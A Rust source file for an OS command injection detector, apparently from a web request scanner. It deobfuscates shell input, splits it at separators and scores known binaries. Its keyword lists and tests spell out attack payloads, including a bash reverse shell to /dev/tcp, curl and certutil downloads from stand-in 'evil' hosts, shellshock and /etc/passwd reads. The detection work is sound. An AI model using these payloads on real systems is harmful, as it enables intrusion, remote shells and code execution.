//! OS command injection for Unix shells, `cmd.exe` and PowerShell. The value is
//! de-obfuscated the way a shell would read it (quotes and backslashes inside words,
//! `^` carets, `$IFS`, empty expansions, brace expansion `{cat,/etc/passwd}`), split into
//! commands at separators (`;`, `|`, `&`, newlines, `` ` ``, `$(`, `<(`), and each command's
//! first word is looked up among known binaries. What follows a separator is weighed by how
//! unambiguous the binary is and whether it has shell-like arguments; shellshock function
//! definitions, `/dev/tcp` and PowerShell download cradles are strong on their own.

use std::collections::HashMap;

use super::{Detector, Hit, Kind, Subject};

/// Binaries whose name is not an English word: strong evidence after a separator.
const STRONG: &[&str] = &[
    "whoami", "uname", "ifconfig", "ipconfig", "nslookup", "netstat", "wget", "curl", "netcat",
    "ncat", "socat", "bash", "zsh", "ksh", "csh", "tcsh", "dash", "busybox", "powershell", "pwsh",
    "cmd", "certutil", "bitsadmin", "mshta", "regsvr32", "rundll32", "wmic", "regedit", "reg",
    "schtasks", "systeminfo", "tasklist", "taskkill", "nmap", "chmod", "chown", "chattr", "crontab",
    "useradd", "usermod", "visudo", "sudo", "mkfifo", "nohup", "setsid", "xterm", "python",
    "python2", "python3", "perl", "gcc", "irb", "tftp", "lwp-download", "lynx", "gunzip", "zcat",
    "zstdcat", "unxz", "bzcat", "uudecode", "openssl", "telnet", "traceroute", "tcpdump", "strace",
    "ltrace", "gdb", "iptables", "modprobe", "insmod", "dmesg", "lsof", "pkill", "killall", "nc",
    "bcdboot", "bcdedit", "vssadmin", "wevtutil", "icacls", "cacls", "takeown", "cscript",
    "wscript", "msiexec", "installutil", "regasm", "regsvcs", "msbuild", "forfiles", "pcalua",
    "hostname", "ipcalc", "getent", "id", "ls", "pwd", "ps", "env", "printenv", "sh", "rbash",
    "php", "ruby", "lua", "node", "nodejs", "jrunscript", "jjs", "xxd", "hexdump", "base32",
    "base64", "awk", "gawk", "sed", "xargs", "wc", "uniq", "rev", "dd", "tar", "unzip", "7z",
    "zstd", "xz", "bzip2", "gzip", "ssh", "scp", "sftp", "rsync", "ftp", "dig", "host", "arp",
    "route", "ip", "ss", "lsmod", "mount", "umount", "fdisk", "passwd", "chpasswd", "useradd",
    "aptitude", "apt", "apt-get", "yum", "dnf", "rpm", "dpkg", "pip", "pip3", "npm", "gem",
    "systemctl", "service", "journalctl", "shutdown", "reboot", "halt", "poweroff", "init",
    "column", "flock", "bridge", "fold", "tac", "nl", "od", "strings", "readelf", "objdump",
    "ldd", "file", "stat", "touch", "rm", "rmdir", "mkdir", "cp", "mv", "ln", "chgrp", "umask",
    "ulimit", "export", "unset", "alias", "unalias", "history", "source", "eval", "exec",
    "timeout", "watch", "expect", "tclsh", "wish", "gdb", "docker", "kubectl", "ab", "zsh",
    "net", "net1", "nbtstat", "quser", "qwinsta", "sc", "at", "cipher", "diskpart", "format",
    "del", "erase", "rd", "copy", "xcopy", "robocopy", "move", "ren", "attrib", "findstr",
    "certreq", "cmdkey", "runas", "query", "whoami.exe", "cmd.exe", "powershell.exe", "iex",
    "iwr", "irm", "iwmi", "icm", "saps", "start-process", "invoke-expression",
    "invoke-webrequest", "invoke-restmethod", "invoke-command", "invoke-wmimethod",
    "new-object", "set-mppreference", "add-mppreference", "get-wmiobject", "get-ciminstance",
    "get-process", "get-childitem", "get-content", "set-content", "out-file", "remove-item",
    "copy-item", "start-bitstransfer", "invoke-item", "add-type", "set-executionpolicy",
    "downloadstring", "downloadfile", "frombase64string", "mkfs", "shred", "wipe",
];

/// Binaries whose names are also everyday words: evidence only with shell-like context.
const WEAK: &[&str] = &[
    "cat", "more", "less", "head", "tail", "find", "sort", "kill", "ping", "set", "type", "dir",
    "echo", "date", "time", "sleep", "wait", "test", "read", "join", "split", "last", "who", "w",
    "top", "free", "look", "make", "man", "mail", "print", "printf", "cut", "paste", "tr", "yes",
    "nice", "cd", "du", "df", "vi", "vim", "nano", "ed", "su", "bc", "tee", "zip", "git", "java",
    "go", "locate", "which", "whereis", "script", "screen", "exit", "logout", "diff", "cmp", "grep",
    "egrep", "fgrep", "less", "view", "start", "call", "for", "wget", "sum", "md5sum", "sha1sum",
    "sha256sum", "uptime", "users", "groups", "finger", "mesg", "wall", "write", "talk", "lp",
    "chroot", "nohup", "env", "tree", "clear", "reset", "true", "false",
];

#[derive(Debug)]
struct Rce {
    commands: HashMap<&'static str, bool>,
}

pub(crate) fn build() -> Box<dyn Detector> {
    let mut commands = HashMap::new();
    for w in WEAK {
        commands.insert(*w, false);
    }
    for s in STRONG {
        commands.insert(*s, true);
    }
    Box::new(Rce { commands })
}

/// Removes what a shell (or cmd.exe) drops while reading words; bounded to 8 KiB.
fn deobfuscate(lower: &str) -> String {
    let s = &lower[..floor_char(lower, 8192)];
    let s = s
        .replace("${ifs}", " ")
        .replace("$ifs$9", " ")
        .replace("$ifs", " ")
        .replace("$@", "")
        .replace("$*", "")
        .replace("${}", "");
    let mut out = String::with_capacity(s.len());
    let b = s.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        match c {
            b'\\' if b.get(i + 1).is_some_and(|n| n.is_ascii_alphanumeric() || *n == b'/') => {}
            b'^' => {}
            b'\'' | b'"' if i > 0 && b[i - 1].is_ascii_alphanumeric() || b.get(i + 1).is_some_and(|n| n.is_ascii_alphanumeric()) => {}
            // `c${x}at`: an expansion of a (probably unset) variable inside a word.
            b'$' if b.get(i + 1) == Some(&b'{') && i > 0 && b[i - 1].is_ascii_alphanumeric() => {
                if let Some(end) = s[i..].find('}') {
                    i += end + 1;
                    continue;
                }
            }
            _ => {}
        }
        if !(matches!(c, b'\\' if b.get(i + 1).is_some_and(|n| n.is_ascii_alphanumeric() || *n == b'/'))
            || c == b'^'
            || (matches!(c, b'\'' | b'"') && (i > 0 && b[i - 1].is_ascii_alphanumeric() || b.get(i + 1).is_some_and(|n| n.is_ascii_alphanumeric()))))
        {
            let ch = s[i..].chars().next().unwrap_or(' ');
            out.push(ch);
            i += ch.len_utf8();
            continue;
        }
        i += 1;
    }
    out
}

fn floor_char(s: &str, mut n: usize) -> usize {
    if n >= s.len() {
        return s.len();
    }
    while !s.is_char_boundary(n) {
        n -= 1;
    }
    n
}

/// The separator before a command.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Sep {
    Start,
    Explicit,
    Substitution,
}

/// True when the rest of a command looks like shell arguments.
fn argish(rest: &str) -> bool {
    let r = rest.trim_start();
    r.starts_with(['-', '/', '.', '$', '>', '<', '|', '~', '%', '\\', '{', '('])
        || r.contains('/')
        || r.contains("://")
        || (r.len() > 1 && r.as_bytes()[1] == b':')
}

impl Rce {
    fn lookup(&self, word: &str) -> Option<bool> {
        if let Some(s) = self.commands.get(word) {
            return Some(*s);
        }
        // `python3.10`, `gcc10.1`, `cmd.exe`.
        let base = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        let base = base.strip_suffix(".exe").unwrap_or(base);
        (!base.is_empty() && base != word).then(|| self.commands.get(base).copied()).flatten()
    }

    fn command_score(&self, sep: Sep, segment: &str, kind: Kind) -> f32 {
        let seg = segment.trim_start_matches([' ', '\t', '!', '@', '(', '{']);
        let (word, rest) = seg
            .split_once(|c: char| c.is_whitespace() || c == ',' || c == '<' || c == '>' || c == '(' || c == '"')
            .map_or((seg, ""), |(w, r)| (w, r));
        if word.is_empty() || word.len() > 40 {
            return 0.0;
        }
        let pathy = word.contains('/') || word.contains('\\');
        let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
        let bin_dir = ["/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/usr/local/bin/", "system32\\", "/tmp/", "/dev/shm/"]
            .iter()
            .any(|d| word.contains(d));
        let known = self.lookup(name);
        let args = argish(rest);
        let end = rest.trim().is_empty();
        match (sep, known) {
            (Sep::Substitution, Some(_)) => 0.9,
            (Sep::Substitution, None) if name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_') && !name.is_empty() => 0.75,
            (_, _) if bin_dir && !name.is_empty() => 0.88,
            (Sep::Explicit, Some(true)) if args || end || name.len() > 3 => 0.9,
            (Sep::Explicit, Some(true)) => 0.7,
            (Sep::Explicit, Some(false)) if args => 0.85,
            (Sep::Explicit, Some(false)) if end && name.len() <= 4 => 0.72,
            (Sep::Explicit, Some(false)) => 0.45,
            (Sep::Start, Some(true)) if args && kind != Kind::Header => 0.8,
            (Sep::Start, Some(true)) if end && name.len() > 4 && kind == Kind::ArgValue => 0.72,
            (Sep::Start, Some(false)) if args && rest.trim_start().starts_with('/') => 0.78,
            (Sep::Start, Some(false)) if args => 0.55,
            _ if pathy && known.is_some() => 0.75,
            _ => 0.0,
        }
    }
}

impl Detector for Rce {
    fn inspect<'a>(&self, s: &Subject<'a>) -> Option<Hit<'a>> {
        if matches!(s.kind, Kind::FileContent | Kind::XmlDoctype | Kind::Filename) || s.lower.len() < 2 {
            return None;
        }
        let lower = s.lower;
        let mut best = (0.0f32, 0usize, 0usize);
        let mut take = |c: f32, a: usize, e: usize| {
            if c > best.0 {
                best = (c, a, e);
            }
        };
        // Shellshock: a function definition where a value should be.
        if let Some(k) = lower.find("()") {
            let after = lower[k + 2..].trim_start();
            if after.starts_with('{') {
                let body = after[1..].trim_start();
                let at_start = lower[..k].trim().is_empty();
                if at_start || body.starts_with(":;") || body.starts_with(": ;") {
                    take(0.95, k, (k + 60).min(lower.len()));
                }
            }
        }
        for (m, c) in [("/dev/tcp/", 0.9), ("/dev/udp/", 0.9), ("%comspec%", 0.85), ("cmd /c", 0.85), ("cmd.exe", 0.85), ("powershell -", 0.9), ("-encodedcommand", 0.85), ("downloadstring(", 0.9), ("net.webclient", 0.9), ("nc -e", 0.9), ("bash -i", 0.9), ("sh -c", 0.8), ("${ifs}", 0.85), ("$ifs$9", 0.85)] {
            if let Some(k) = lower.find(m) {
                take(c, k, (k + 60).min(lower.len()));
            }
        }
        // `for /f %i in (set) do command` (cmd.exe loops).
        if let Some(k) = lower.find("for ") {
            let rest = &lower[k..lower.len().min(k + 200)];
            if rest.contains('%') && rest.contains(" in (") && rest.contains(" do ") {
                take(0.85, k, (k + 60).min(lower.len()));
            }
        }
        if !s.bytes.any(b";|&`$(\n\r/\\{<>'\"^ ") {
            let c = self.command_score(Sep::Start, lower, s.kind);
            take(c.min(0.72), 0, lower.len());
            let (c, a, e) = best;
            return (c > 0.0).then(|| Hit::at(c, s.text, a, e));
        }
        let deob = deobfuscate(lower);
        let d = deob.as_str();
        let b = d.as_bytes();
        // Walk commands separated by shell control operators.
        let mut seg_start = 0;
        let mut sep = Sep::Start;
        let mut i = 0;
        let mut segments = 0;
        while i <= b.len() && segments < 256 {
            let (is_sep, next_sep, skip) = match b.get(i) {
                None => (true, Sep::Start, 1),
                Some(b';' | b'\n' | b'\r' | b'|' | b'&') => (true, Sep::Explicit, 1),
                Some(b'`') => (true, Sep::Substitution, 1),
                Some(b'$') if b.get(i + 1) == Some(&b'(') => (true, Sep::Substitution, 2),
                Some(b'<' | b'>') if b.get(i + 1) == Some(&b'(') => (true, Sep::Substitution, 2),
                Some(b'{') if b.get(i + 1).is_some_and(|c| c.is_ascii_alphabetic()) && i > 0 && matches!(b[i - 1], b' ' | b';' | b'&' | b'|' | b'=') => (true, Sep::Explicit, 1),
                _ => (false, Sep::Start, 0),
            };
            if is_sep {
                let segment = &d[seg_start..i.min(d.len())];
                let c = self.command_score(sep, segment, s.kind);
                let c = if s.kind == Kind::Header && s.name == "user-agent" { c - 0.15 } else { c };
                take(c, 0, lower.len().min(80));
                segments += 1;
                seg_start = (i + skip).min(d.len());
                sep = next_sep;
                i += skip;
                continue;
            }
            i += 1;
        }
        // Brace expansion: `{cat,/etc/passwd}`, `c{a,oun}t`, `{,ifconfig}`.
        if let Some(open) = d.find('{') {
            if let Some(len) = d[open..].find('}') {
                let inner = &d[open + 1..open + len];
                if inner.contains(',') && !inner.contains(' ') {
                    let prefix = d[..open].rsplit(|c: char| !c.is_ascii_alphanumeric()).next().unwrap_or("");
                    let suffix = d[open + len + 1..].split(|c: char| !c.is_ascii_alphanumeric()).next().unwrap_or("");
                    for alt in inner.split(',') {
                        let word = format!("{prefix}{alt}{suffix}");
                        if self.lookup(&word).is_some() && !word.is_empty() {
                            take(0.8, open, (open + len + 1).min(lower.len()));
                        }
                    }
                }
            }
        }
        // `alias x=curl` then use.
        if let Some(k) = d.find("alias ") {
            if d[k..].contains('=') {
                take(0.8, k, (k + 40).min(lower.len()));
            }
        }
        let (c, a, e) = best;
        (c > 0.0).then(|| Hit::at(c, s.text, a.min(s.text.len()), e.min(s.text.len())))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::testing::{arg, score};

    #[test]
    fn flags_separated_and_substituted_commands() {
        let d = build();
        for v in [
            "; cat /etc/passwd",
            "x|id",
            "1 && whoami",
            "`uname -a`",
            "$(curl http://evil/x.sh)",
            "; c'a't /etc/pa's's'wd",
            "1;cat${IFS}/etc/passwd",
            "{cat,/etc/passwd}",
            "() { :; }; /bin/bash -c 'id'",
            "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "| powershell -enc ZQBjAGgAbwA=",
            "& w^h^o^a^m^i",
            "cmd=; certutil -urlcache -f http://evil.com/p.exe",
            "/usr/bin/perl -e 'print 1'",
            "Invoke-WebRequest http://example.com/file.ps1",
            ";ps",
            "for /f %i in (set) do command",
            "python3.10 -c 'import os'",
        ] {
            let s = arg(&*d, v);
            assert!(s >= 0.7, "{v}: {s}");
        }
        assert!(score(&*d, Kind::Header, "referer", ";env") >= 0.7);
    }

    #[test]
    fn ignores_prose_with_separators_and_command_words() {
        let d = build();
        for v in [
            "Tom & Jerry; cat videos are the best",
            "Salt & pepper | more info inside",
            "I was sleeping; time flies",
            "Order #123; id 55 shipped",
            "find the best deals",
            "type here",
            "rock & roll",
            "C:\\Users\\Bob\\Documents",
            "echo chamber",
            "https://example.com/a/b?c=d",
        ] {
            let s = arg(&*d, v);
            assert!(s < 0.7, "{v}: {s}");
        }
        let ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36";
        assert!(score(&*d, Kind::Header, "user-agent", ua) < 0.7);
    }
}
